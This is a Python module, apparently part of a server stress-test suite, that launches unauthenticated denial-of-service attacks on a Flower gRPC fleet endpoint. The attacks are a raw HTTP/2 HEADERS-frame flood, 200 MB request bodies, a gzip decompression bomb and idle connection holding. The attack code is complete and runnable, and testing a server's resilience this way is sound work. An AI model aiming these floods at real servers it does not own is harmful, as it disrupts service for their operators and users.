"""Someone without a key who attacks the port of a server.

* `calls`: calls of headers alone, as many at a time as the server lets stand, over connections that are opened anew
  whenever the server closes them;
* `bodies`: calls that bring 200 MB each;
* `gzip`: calls that bring a third of a megabyte each, which unpacks to 300 MB;
* `silent`: TCP connections that send nothing.

    python -m siege.stranger HOST:PORT --ca CA.pem --how calls --seconds 16
"""

import argparse
import json
import socket
import ssl
import struct
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import grpc

__all__ = ["ATTACKS"]

METHODS = ("PullMessages", "PushObject", "ActivateNode", "NoSuchMethod")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 1, 4, 1


class Stranger:
    """Attacks an address from threads of its own, as long as the process lives.

    It takes all of Python's time, so it needs a process of its own.

    Args:
        address: `HOST:PORT`.
        ca: the CA's certificate, which is no secret, or None for plain text.
        connections: how many at a time.
        calls: how many a connection opens at a time.
    """

    def __init__(self, address: str, ca: Path | None, connections: int, calls: int) -> None:
        """Do nothing yet."""
        self.address, self._ca, self._connections, self._calls = address, ca, connections, calls
        self.counts: Counter[str] = Counter()

    def attack(self, how: str) -> None:
        """Begin; returns at once."""
        act = {"calls": self._send_headers, "bodies": self._send_body, "gzip": self._send_bomb, "silent": self._hold}
        for _ in range(self._connections):
            threading.Thread(target=self._repeat, args=(act[how],), daemon=True).start()

    def _repeat(self, act: Callable[[], None]) -> None:
        while True:
            self.counts["connections"] += 1
            try:
                act()
            except (OSError, grpc.RpcError) as error:
                self.counts[type(error).__name__] += 1
                if isinstance(error, ConnectionRefusedError):  # nobody is there
                    time.sleep(0.1)

    def _connect(self) -> socket.socket:
        host, _, port = self.address.rpartition(":")
        return socket.create_connection((host, int(port)), timeout=5)

    def _protect(self, plain: socket.socket) -> socket.socket:
        if not self._ca:
            return plain
        context = ssl.create_default_context(cafile=self._ca)
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(plain, server_hostname=self.address.rpartition(":")[0])

    def _hold(self) -> None:
        with self._connect() as plain:
            plain.settimeout(None)
            plain.recv(1)

    def _send_headers(self) -> None:
        with self._connect() as plain, self._protect(plain) as link:
            link.sendall(PREFACE + _frame(SETTINGS, 0, 0))
            link.settimeout(0.2)
            stream, is_open, received = 1, set[int](), b""
            while True:
                fresh = range(stream, stream + 2 * max(self._calls - len(is_open), 0), 2)
                link.sendall(b"".join(_frame(HEADERS, END_HEADERS, each, _headers(each)) for each in fresh))
                is_open.update(fresh)
                stream = max(stream, fresh.stop)
                self.counts["calls"] += len(fresh)
                with suppress(TimeoutError):
                    received += (more := link.recv(65536))
                    if not more:
                        return
                while len(received) >= 9 and len(received) >= 9 + (size := int.from_bytes(received[:3])):
                    kind, flags, number = received[3], received[4], int.from_bytes(received[5:9])
                    content, received = received[9 : 9 + size], received[9 + size :]
                    if kind in (SETTINGS, PING) and not flags & ACK:
                        link.sendall(_frame(kind, ACK, 0, content if kind == PING else b""))
                    if kind == GOAWAY:
                        return
                    if number in is_open and (kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)):
                        is_open.remove(number)
                        self.counts["refused"] += 1

    def _send_body(self, size: int = 200_000_000, squeeze: grpc.Compression = grpc.Compression.NoCompression) -> None:
        options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        if self._ca:
            channel = grpc.secure_channel(self.address, grpc.ssl_channel_credentials(self._ca.read_bytes()), options)
        else:
            channel = grpc.insecure_channel(self.address, options)
        with channel:
            call = channel.unary_unary("/flwr.proto.Fleet/PullMessages")
            call(bytes(size), timeout=30, compression=squeeze)

    def _send_bomb(self) -> None:
        self._send_body(300_000_000, grpc.Compression.Gzip)


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def _headers(stream: int) -> bytes:
    """Return the headers of a call without a key, as HPACK writes literals."""
    pairs = {
        b":method": b"POST",
        b":scheme": b"https",
        b":path": b"/flwr.proto.Fleet/" + METHODS[stream // 2 % len(METHODS)].encode(),
        b":authority": b"stranger",
        b"te": b"trailers",
        b"content-type": b"application/grpc",
    }
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in pairs.items())


ATTACKS = ("calls", "bodies", "gzip", "silent")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("--ca", type=Path)
    parser.add_argument("--how", choices=ATTACKS, default="calls")
    parser.add_argument("--seconds", type=float, default=16.0)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--calls", type=int, default=700)
    args = parser.parse_args()
    stranger, end = Stranger(args.address, args.ca, args.connections, args.calls), time.monotonic() + args.seconds
    stranger.attack(args.how)
    while (left := end - time.monotonic()) > 0:
        time.sleep(min(left, 0.5))
        print(json.dumps(stranger.counts), flush=True)
